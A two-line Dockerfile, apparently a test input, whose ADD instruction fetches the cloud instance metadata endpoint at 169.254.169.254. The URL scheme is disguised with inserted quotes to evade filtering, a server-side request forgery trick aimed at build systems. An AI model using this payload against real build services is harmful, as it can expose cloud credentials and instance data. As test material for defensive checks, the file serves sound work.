FROM busybox
ADD h"tt"p://169.254.169.254/latest/meta-data/ /x
